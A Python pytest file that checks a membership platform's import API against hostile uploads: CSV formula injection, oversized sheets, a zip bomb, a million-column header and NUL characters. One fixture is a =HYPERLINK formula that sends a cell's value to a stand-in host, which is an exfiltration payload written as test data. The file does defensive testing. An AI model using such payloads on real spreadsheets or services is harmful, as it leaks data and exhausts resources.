"""Uploads made to hurt, over HTTP against the real platform: each is refused or defused, and
the platform goes on answering."""

import csv
import io

import pytest
from kombel_runtime.auth import Role
from kombel_runtime.imports.refusals import TOO_COMPLEX
from kombel_runtime.testing.harness import RunningPlatform
from kombel_runtime.testing.regions import fresh_kabkota
from membership.testing import csv_bytes, digits
from membership.testing import finished_import as upload
from membership.testing.workbooks import (
    A1_AND_XFD1048576,
    SLIPPING_PAST,
    cell,
    peak_rss_mb,
    workbook,
    zip_bomb,
)

from .test_imports_api import make_school, people_in

pytestmark = pytest.mark.infra


def downloaded(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


async def test_formulas_in_uploaded_cells_come_back_as_text(platform: RunningPlatform) -> None:
    kabkota = fresh_kabkota()
    npsn = await make_school(platform, kabkota)
    staff = platform.auth(Role.DISTRICT_STAFF, kabkota=kabkota)
    link = '=HYPERLINK("http://contoh.id/?d="&B2,"Klik")'
    phone = "+62 812" + digits(8)
    content = csv_bytes(
        *[
            ["Nama Lengkap", "NUPTK", "No. HP/WA", "Jabatan", "NPSN Sekolah"],
            [link, digits(16), phone, "guru", npsn],
            ["@SUM(A1:A9)", "123", "", "-guru", npsn],  # refused: a NUPTK of 3 digits
        ]
    )
    first = await upload(platform, "people", content, staff, dry_run=False)
    assert (first["created"], first["rejected"]) == (1, 1), first
    errors = downloaded((await platform.client.get(first["errors_csv"], headers=staff)).text)
    assert errors[1][:2] == ["3", "'@SUM(A1:A9)"]
    assert errors[1][4] == "'-guru"

    again = await upload(platform, "people", content, staff, dry_run=False)
    assert again["duplicates"] == 1, again
    matches = downloaded((await platform.client.get(again["matches_csv"], headers=staff)).text)
    assert matches[1][:4] == ["2", "'" + link, matches[1][2], "'" + phone]


async def test_a_sheet_reaching_xfd1048576_fails_its_import_and_the_platform_lives_on(
    platform: RunningPlatform,
) -> None:
    kabkota = fresh_kabkota()
    npsn = await make_school(platform, kabkota)
    staff = platform.auth(Role.DISTRICT_STAFF, kabkota=kabkota)
    far = await upload(platform, "people", A1_AND_XFD1048576, staff, dry_run=True, name="a.xlsx")
    assert far["status"] == "failed"
    assert "terisi sampai sel XFD1048576" in far["error"]
    assert "paling banyak 6000 baris dan 200 kolom" in far["error"]
    # Past the check, calamine asks for 512 GB: the child reading the file dies, not the service.
    past = await upload(platform, "people", SLIPPING_PAST, staff, dry_run=True, name="b.xlsx")
    assert (past["status"], past["error"]) == ("failed", TOO_COMPLEX)

    content = csv_bytes(*[["Nama Lengkap", "NUPTK", "NPSN Sekolah"], ["Rina", digits(16), npsn]])
    after = await upload(platform, "people", content, staff, dry_run=False)
    assert (after["status"], after["created"]) == ("succeeded", 1)
    listed = await platform.client.get("/membership/imports", headers=staff)
    assert [i["id"] for i in listed.json()["items"]] == [after["id"], past["id"], far["id"]]


async def test_a_zip_bomb_is_refused_at_upload_without_being_inflated(
    platform: RunningPlatform,
) -> None:
    before = peak_rss_mb()
    bomb = zip_bomb(300)
    response = await platform.client.post(
        "/membership/imports/people",
        files={"file": ("bom.xlsx", bomb)},
        headers=platform.auth(Role.NATIONAL_ADMIN),
    )
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"] == "file_too_complex"
    assert "Simpan ulang sebagai CSV" in response.json()["error"]["message"]
    assert peak_rss_mb() - before < 200


async def test_a_header_of_a_million_columns_fails_with_a_short_reason(
    platform: RunningPlatform,
) -> None:
    content = b"x," * 1_000_000 + b"\nRina,10203040\n"
    staff = platform.auth(Role.NATIONAL_ADMIN)
    result = await upload(platform, "people", content, staff, dry_run=True)
    assert result["status"] == "failed"
    assert result["error"].startswith("Baris 1 berisi 1000001 kolom; paling banyak 200 kolom.")
    assert len(result["error"]) <= 1000


async def test_control_characters_in_cells_never_reach_the_database(
    platform: RunningPlatform,
) -> None:
    kabkota = fresh_kabkota()
    npsn = await make_school(platform, kabkota)
    staff = platform.auth(Role.DISTRICT_STAFF, kabkota=kabkota)
    filler = [[f"Guru {n}", "123", npsn] for n in range(400)]  # refused rows, past 8 KB
    content = csv_bytes(
        *[
            ["Nama Lengkap", "NUPTK", "NPSN Sekolah"],
            *filler,
            ["Rina\x00 Sitorus", digits(16), npsn],
            ["Budi\x00", "12\x00", npsn],  # refused: its cells are kept for errors.csv
        ]
    )
    from_csv = await upload(platform, "people", content, staff, dry_run=False)
    assert (from_csv["status"], from_csv["created"], from_csv["rejected"]) == ("succeeded", 1, 401)
    sheet = workbook(
        f'<row r="1">{cell("A1", "Nama Lengkap")}{cell("B1", "NUPTK")}{cell("C1", "NPSN Sekolah")}'
        f'</row><row r="2">{cell("A2", "Ani_x0000_ Pohan")}{cell("B2", digits(16))}'
        f"{cell('C2', npsn)}</row>"
    )
    from_xlsx = await upload(platform, "people", sheet, staff, dry_run=False, name="ptk.xlsx")
    assert (from_xlsx["status"], from_xlsx["created"]) == ("succeeded", 1), from_xlsx
    assert await people_in(platform, npsn) == 2
    names = await platform.client.get(
        "/membership/people", params={"kabkota": kabkota}, headers=staff
    )
    assert sorted(p["full_name"] for p in names.json()["items"]) == ["Ani Pohan", "Rina Sitorus"]
